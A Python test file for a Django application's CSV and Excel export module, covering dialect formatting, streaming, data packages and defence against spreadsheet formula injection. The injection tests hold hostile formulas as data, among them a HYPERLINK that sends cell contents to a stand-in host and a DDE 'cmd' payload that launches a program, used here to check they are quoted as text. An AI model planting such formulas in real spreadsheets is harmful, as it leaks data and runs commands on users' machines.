"""One declaration of columns gives the CSV of both dialects and the workbook, streamed."""

import csv
import datetime
import io
import json
import zipfile
from decimal import Decimal
from types import GeneratorType

import pytest
from django.http import StreamingHttpResponse
from frictionless import Package
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from lanterne.core.exports import (
    BOOLEAN,
    DATE,
    DECIMAL,
    INTEGER,
    MONEY,
    OPEN_DATA,
    RATIO,
    SPREADSHEET_FR,
    Column,
    Table,
    datapackage_zip,
    export_response,
    write_csv,
    write_xlsx,
    xlsx_bytes,
)

COLUMNS = [
    Column("name", "Nom de la structure", description="son nom"),
    Column("count", "Séances", INTEGER, "nombre de séances"),
    Column("amount", "Montant (€)", MONEY, "en euros"),
    Column("rate", "Taux", DECIMAL, "un nombre décimal"),
    Column("share", "Part (ratio)", RATIO, "entre 0 et 1"),
    Column("day", "Premier jour", DATE, "jour de la première séance"),
    Column("rural", "En zone rurale", BOOLEAN, "en ZRR ou FRR"),
]
ROWS = [
    {
        "name": "Ciné; « Lumière »",
        "count": 3,
        "amount": Decimal("1234.5"),
        "rate": Decimal("46.8"),
        "share": Decimal("0.25"),
        "day": datetime.date(2024, 3, 6),
        "rural": True,
    },
    {
        "name": "Écran, village",
        "count": 0,
        "amount": None,
        "rate": None,
        "share": None,
        "day": None,
        "rural": False,
    },
]


def _rows():
    yield from ROWS


def _table(rows=None):
    return Table("séances", COLUMNS, _rows() if rows is None else rows)


def _workbook(tables, **options):
    return load_workbook(io.BytesIO(xlsx_bytes(tables, **options)))


def _text(dialect) -> str:
    return b"".join(write_csv(_table(), dialect)).decode("utf-8")


def test_spreadsheet_dialect_for_people():
    """`;`, a decimal comma, DD/MM/YYYY, oui/non, the headers' words, UTF-8 with a BOM, CRLF."""
    assert _text(SPREADSHEET_FR) == (
        "\ufeffNom de la structure;Séances;Montant (€);Taux;Part (ratio);Premier jour;"
        "En zone rurale\r\n"
        '"Ciné; « Lumière »";3;1234,50;46,8;0,25;06/03/2024;oui\r\n'
        "Écran, village;0;;;;;non\r\n"
    )


def test_open_data_dialect_for_machines():
    """`,`, a decimal point, ISO days, true/false, the keys as header, UTF-8 without BOM, LF."""
    text = _text(OPEN_DATA)
    assert not text.startswith("\ufeff")
    assert text == (
        "name,count,amount,rate,share,day,rural\n"
        "Ciné; « Lumière »,3,1234.50,46.8,0.25,2024-03-06,true\n"
        '"Écran, village",0,,,,,false\n'
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[1]["name"] == "Écran, village"


def test_spreadsheet_dialect_reads_back_with_csv():
    """A French spreadsheet reads the cells back: quoting keeps a `;` inside a value."""
    text = _text(SPREADSHEET_FR).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert rows[0]["Nom de la structure"] == "Ciné; « Lumière »"
    assert rows[0]["Montant (€)"] == "1234,50"


def test_csv_is_a_generator_of_bytes_reading_rows_lazily():
    """The writer is a generator of encoded chunks and reads the rows only as it goes."""
    read = []

    def rows():
        for index in range(5000):
            read.append(index)
            yield {**ROWS[1], "count": index}

    chunks = write_csv(_table(rows()), SPREADSHEET_FR)
    assert isinstance(chunks, GeneratorType)
    assert read == []
    first = next(chunks)
    assert isinstance(first, bytes)
    assert first.startswith("\ufeff".encode())
    assert read == []  # the header line leaves before any row is read
    second = next(chunks)
    assert 0 < len(read) < 5000
    rest = b"".join(chunks)
    assert len(read) == 5000
    assert (first + second + rest).decode("utf-8").count("\r\n") == 5001


def test_no_header_table():
    """A table without a header line writes only its rows (and the BOM before the first)."""
    table = Table("notes", [Column("name", "Nom"), Column("value", "Valeur")], [], header=False)
    assert b"".join(write_csv(table, SPREADSHEET_FR)) == b""
    table = Table("notes", table.columns, [{"name": "a", "value": "b"}], header=False)
    assert b"".join(write_csv(table, SPREADSHEET_FR)).decode() == "\ufeffa;b\r\n"


def test_xlsx_reads_back_with_the_same_values():
    """One sheet per table; headers are the words; numbers, days and booleans stay typed."""
    workbook = _workbook([_table(), Table("autres", COLUMNS[:2], [{"name": "x", "count": 1}])])
    assert workbook.sheetnames == ["séances", "autres"]
    rows = list(workbook["séances"].iter_rows(values_only=True))
    assert rows[0] == tuple(col.header for col in COLUMNS)
    assert rows[1] == (
        "Ciné; « Lumière »",
        3,
        1234.5,
        46.8,
        0.25,
        datetime.datetime(2024, 3, 6),
        True,
    )
    assert rows[2] == ("Écran, village", 0, None, None, None, None, False)
    sheet = workbook["séances"]
    assert sheet["C2"].number_format == "#,##0.00 €"
    assert sheet["E2"].number_format == "0.00%"
    assert sheet["F2"].number_format == "DD/MM/YYYY"
    assert list(workbook["autres"].iter_rows(values_only=True)) == [
        ("Nom de la structure", "Séances"),
        ("x", 1),
    ]


def test_xlsx_for_machines_has_the_keys_as_header():
    rows = list(_workbook(_table(), keys_as_headers=True).active.iter_rows(values_only=True))
    assert rows[0] == tuple(col.key for col in COLUMNS)


def test_unknown_kind_is_refused():
    with pytest.raises(ValueError):
        Column("x", "X", "percentage")


def test_export_response_streams_csv_with_its_filename():
    """CSV is streamed; the Content-Disposition comes from Django's helper."""
    response = export_response(_table(), "csv", "séances-2024.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == ("attachment; filename*=utf-8''s%C3%A9ances-2024.csv")
    assert b"".join(response.streaming_content).decode("utf-8") == _text(SPREADSHEET_FR)


def test_export_response_streams_the_workbook():
    response = export_response([_table()], "xlsx", "seances.xlsx")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == 'attachment; filename="seances.xlsx"'
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames == ["séances"]


def test_export_response_of_a_file_inline_or_without_name():
    response = export_response(b"%PDF", "pdf", "fiche.pdf", inline=True)
    assert response["Content-Disposition"] == 'inline; filename="fiche.pdf"'
    assert response.content == b"%PDF"
    response = export_response("<svg/>", "svg", None)
    assert "Content-Disposition" not in response
    assert response["Content-Type"] == "image/svg+xml"


def test_no_cache_keeps_an_export():
    """Every export, streamed, from a file or in memory, is private and not stored."""
    for content, fmt in ((_table(), "csv"), ([_table()], "xlsx"), (b"%PDF", "pdf")):
        response = export_response(content, fmt, f"export.{fmt}")
        assert response["Cache-Control"] == "private, no-store", fmt
        response.close()


def test_datapackage_is_valid(tmp_path):
    """The tables as an open-data package: OPEN_DATA CSVs described by their Table Schema
    (a table's name is the resource's, lowercase ASCII)."""
    licence = {"name": "etalab-2.0", "title": "Licence Ouverte / Open Licence 2.0"}
    archive = datapackage_zip(
        [Table("seances", COLUMNS, ROWS)],
        name="essai",
        title="Essai",
        description="",
        licence=licence,
    )
    with zipfile.ZipFile(io.BytesIO(archive)) as package:
        package.extractall(tmp_path)
        descriptor = json.loads(package.read("datapackage.json"))
        assert package.read("seances.csv").decode() == _text(OPEN_DATA)
    fields = descriptor["resources"][0]["schema"]["fields"]
    assert [(f["name"], f["type"]) for f in fields] == [
        ("name", "string"),
        ("count", "integer"),
        ("amount", "number"),
        ("rate", "number"),
        ("share", "number"),
        ("day", "date"),
        ("rural", "boolean"),
    ]
    assert fields[0]["title"] == "Nom de la structure"
    report = Package(str(tmp_path / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


# ---------------------------------------------------------------------------------------------
# Formula injection (OWASP "CSV injection"): a text never becomes a formula
# ---------------------------------------------------------------------------------------------

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Cliquez")',
    "=1+1",
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
TEXT_COLUMNS = [Column("name", "Nom"), Column("count", "Séances", INTEGER)]


def _one_row_table(name):
    return Table("t", TEXT_COLUMNS, [{"name": name, "count": 1}], header=False)


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
@pytest.mark.parametrize("dialect", [SPREADSHEET_FR, OPEN_DATA])
def test_csv_text_starting_like_a_formula_is_quoted(payload, dialect):
    """A text starting with =, +, -, @, a tab or a carriage return is prefixed with a quote: a
    spreadsheet shows it as text instead of computing it."""
    text = b"".join(write_csv(_one_row_table(payload), dialect)).decode().lstrip("\ufeff")
    [row] = list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))
    if dialect is OPEN_DATA:  # its lines end with "\n": a carriage return is one too
        payload = payload.replace("\r", "\n")
    assert row == ["'" + payload, "1"]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_xlsx_text_starting_like_a_formula_is_a_text_cell(payload):
    """In the workbook the same text is a string cell (never a formula), quoted as in the CSV."""
    sheet = _workbook(_one_row_table(payload)).active
    assert sheet["A1"].data_type == "s"
    # XML reads a carriage return back as a line feed.
    assert sheet["A1"].value == "'" + payload.replace("\r", "\n")
    assert sheet["B1"].value == 1


@pytest.mark.parametrize("text", ["Ciné = lumière", "Projet -2", "a@b.fr", "'déjà cité'", ""])
def test_ordinary_text_is_left_alone(text):
    """Only a formula's first character triggers the quote."""
    line = b"".join(write_csv(_one_row_table(text), OPEN_DATA)).decode()
    assert next(csv.reader(io.StringIO(line))) == [text, "1"]


def test_xlsx_text_looking_like_an_error_code_or_holding_control_characters():
    """ "#N/A" stays a text, and a control character XML forbids is dropped instead of making
    the whole workbook fail."""
    table = Table("t", TEXT_COLUMNS[:1], [{"name": "#N/A"}, {"name": "Ciné\x0bclub\x01"}])
    sheet = _workbook(table).active
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "#N/A")
    assert sheet["A3"].value == "Cinéclub"


NUMBER_COLUMNS = [
    Column("count", "n", INTEGER),
    Column("amount", "m", MONEY),
    Column("rate", "d", DECIMAL),
    Column("share", "r", RATIO),
    Column("day", "j", DATE),
]


@given(
    count=st.integers(min_value=-(10**12), max_value=10**12),
    amount=st.decimals(min_value=-(10**9), max_value=10**9, places=2),
    rate=st.decimals(min_value=-(10**6), max_value=10**6, places=3),
    share=st.floats(min_value=-1, max_value=1, allow_nan=False),
    day=st.dates(min_value=datetime.date(1900, 3, 1)),
)
@settings(max_examples=50, deadline=None)
def test_numbers_stay_numbers(count, amount, rate, share, day):
    """Negative numbers start with "-" but are values: neither the CSV nor the workbook quotes
    them, and the workbook keeps them as numbers and days."""
    row = {"count": count, "amount": amount, "rate": rate, "share": share, "day": day}
    table = Table("t", NUMBER_COLUMNS, [row], header=False)
    [cells] = list(csv.reader(io.StringIO(b"".join(write_csv(table, OPEN_DATA)).decode())))
    assert not any(cell.startswith("'") for cell in cells)
    assert int(cells[0]) == count
    assert Decimal(cells[1]) == amount
    assert Decimal(cells[2]) == rate
    assert float(cells[3]) == pytest.approx(share)
    assert cells[4] == day.isoformat()
    values = next(_workbook(table).active.iter_rows(values_only=True))
    assert values[0] == count
    assert values[1] == pytest.approx(float(amount))
    assert values[2] == pytest.approx(float(rate))
    assert values[3] == pytest.approx(share)
    assert values[4] == datetime.datetime(day.year, day.month, day.day)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_call_export_quotes_a_dossier_title_written_as_a_formula(login, fmt):
    """An applicant's title is data: in the call's dossiers export for the committee, a title
    written as a formula arrives quoted, as text, and the amounts stay numbers."""
    from django.urls import reverse

    from tests.calls.factories import call_coordinator
    from tests.dossiers.factories import DossierFactory

    title = '=HYPERLINK("http://example.invalid/?"&B2,"Voir le dossier")'
    dossier = DossierFactory(state="submitted", title=title)
    client = login(call_coordinator(dossier.call))
    response = client.get(reverse("calls:export", args=[dossier.call.slug, fmt]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        [row] = list(csv.DictReader(io.StringIO(content.decode()[1:]), delimiter=";"))
        assert row["Titre du projet"] == "'" + title
        assert row["Demande DRAC (€)"] == "4000,00"
        return
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["Titre du projet"].data_type == "s"
    assert cells["Titre du projet"].value == "'" + title
    assert cells["Demande DRAC (€)"].value == 4000


def _counted_rows(total: int, consumed: list[int]):
    """`total` rows of COLUMNS, counting in `consumed[0]` how many were read so far."""
    for index in range(total):
        consumed[0] += 1
        yield {
            "name": f"Structure {index} & co <{index % 7}>",
            "count": index,
            "amount": Decimal(index) / 4,
            "rate": Decimal("46.8"),
            "share": Decimal("0.25"),
            "day": datetime.date(2024, 1, 1) + datetime.timedelta(days=index % 365),
            "rural": index % 2 == 0,
        }


def test_xlsx_bytes_leave_before_the_table_is_read():
    """The workbook is sent while its rows are read: the first pieces, and one holding rows,
    leave the writer long before the last row is read (the first byte does not wait for the
    whole table), and the pieces put together are the complete workbook."""
    consumed = [0]
    pieces = write_xlsx(Table("séances", COLUMNS, _counted_rows(5_000, consumed)))
    assert isinstance(pieces, GeneratorType)
    assert consumed[0] == 0  # nothing is read before the response is iterated
    first = next(pieces)
    assert first.startswith(b"PK") and consumed[0] == 0
    received = [first]
    while consumed[0] == 0 or len(received) < 3:
        received.append(next(pieces))
    assert 0 < consumed[0] < 2_000
    received.extend(pieces)
    assert consumed[0] == 5_000
    archive = zipfile.ZipFile(io.BytesIO(b"".join(received)))
    assert archive.testzip() is None
    sheet = load_workbook(io.BytesIO(b"".join(received)), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 5_001
    assert rows[-1][:3] == ("Structure 4999 & co <1>", 4999, 1249.75)


def test_xlsx_memory_stays_flat_whatever_the_rows():
    """Rows are turned into XML and compressed as they come: writing 20 000 rows holds no
    more memory than a few chunks (the rows are never gathered into a list)."""
    import tracemalloc

    consumed = [0]
    tracemalloc.start()
    try:
        baseline = tracemalloc.get_traced_memory()[0]
        size = 0
        for piece in write_xlsx(Table("séances", COLUMNS, _counted_rows(20_000, consumed))):
            size += len(piece)
        peak = tracemalloc.get_traced_memory()[1] - baseline
    finally:
        tracemalloc.stop()
    assert consumed[0] == 20_000
    # The uncompressed sheet is several megabytes; what is held at once stays far below.
    assert size > 300_000
    assert peak < 2_000_000, peak


def test_workbook_round_trip_with_its_data_dictionary():
    """Every sheet, the data dictionary's included, reads back in openpyxl with its texts
    (line breaks, spaces, XML's special characters), typed values and formats."""
    from lanterne.core.exports import data_dictionary

    table = _table()
    dictionary = data_dictionary([table], {"name": [("a", "Alpha & co"), ("b", "<Bêta>")]})
    workbook = _workbook([table, dictionary])
    assert workbook.sheetnames == ["séances", "dictionnaire des données"]
    rows = list(workbook["dictionnaire des données"].iter_rows(values_only=True))
    assert rows[0] == ("Feuille", "Colonne", "Intitulé", "Signification", "Codes et libellés")
    assert rows[1] == (
        "séances",
        "name",
        "Nom de la structure",
        "son nom",
        "a : Alpha & co\nb : <Bêta>",
    )
    assert len(rows) == 1 + len(COLUMNS)
    assert workbook["séances"]["A1"].font.b
    assert workbook["séances"]["F2"].is_date
    padded = _workbook(Table("t", TEXT_COLUMNS[:1], [{"name": "  deux espaces "}]))
    assert padded.active["A2"].value == "  deux espaces "
